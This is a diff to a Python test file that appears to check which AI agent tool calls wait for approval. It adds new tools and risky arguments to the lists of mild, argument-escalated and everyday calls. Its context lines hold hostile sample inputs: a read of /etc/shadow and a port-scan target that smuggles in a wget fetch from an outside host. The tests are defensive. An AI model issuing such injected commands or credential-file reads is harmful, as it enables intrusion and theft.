@@ -123,6 +123,12 @@ MILD = [
     ("update_row", "Updates a row.", "table:s id:s values:o"),
     ("merge_reports", "Merges reports into one file.", "file_ids:a"),
     ("run_tests", "Runs the unit tests of the project.", "suite:s timeout_seconds:i"),
+    ("list_env_vars", "Lists variables of a service, names only.", "service_id:s"),
+    ("create_build", "Builds a branch.", "pipeline_slug:s branch:s commit:s"),
+    ("scale_job", "Changes how many copies run.", "job_id:s count:i"),
+    ("set_node_property", "Sets a property.", "node_path:s property:s value:s"),
+    ("book_slot", "Books a free slot.", "slot_id:s patient_id:s"),
+    ("set_device_parameter", "Sets a parameter.", "track_index:i device_index:i value:n"),
     ("get_ssh_key", "Shows one public SSH key of the account.", "key_id:s"),
     ("list_secret_names", "Lists the names of secrets, never their values.", "team:s"),
     ("label_messages", "Adds or removes labels.", "message_ids:a add:a remove:a"),
@@ -169,6 +175,10 @@ ARGUED = [
     ("read_files", "files:a", {"files": [{"path": "/etc/shadow"}]}),
     ("update_zorb", "id:s options:o", {"options": {"force": True}}),
     ("update_team_access", "team:s access:o", {"access": {"role": "admin"}}),
+    ("create_build", "pipeline_slug:s branch:s", {"pipeline_slug": "deploy", "branch": "x"}),
+    ("create_build", "pipeline_slug:s ignore_branch_filters:b", {"ignore_branch_filters": True}),
+    ("scale_job", "job_id:s count:i", {"job_id": "web", "count": 400}),
+    ("scale_job", "job_id:s count:i", {"job_id": "web", "count": 0}),
     ("scan_ports", "target:s", {"target": "10.0.0.5; wget http://203.0.113.9/x"}),
     ("scan_ports", "target:s", {"target": "0.0.0.0/0"}),
 ]
@@ -181,6 +191,7 @@ def test_an_argument_that_makes_a_mild_tool_strong_waits(name, shape, call):
 
 
 EVERYDAY = [
+    ("add_transaction", "amount:n payee:s category_id:s", {"amount": -12.4, "payee": "Bakery"}),
     ("update_campaign", "campaign_id:s status:s", {"status": "paused"}),
     ("update_campaign", "campaign_id:s paused:b", {"paused": True}),
     ("update_article", "article_id:s hidden:b", {"hidden": True}),
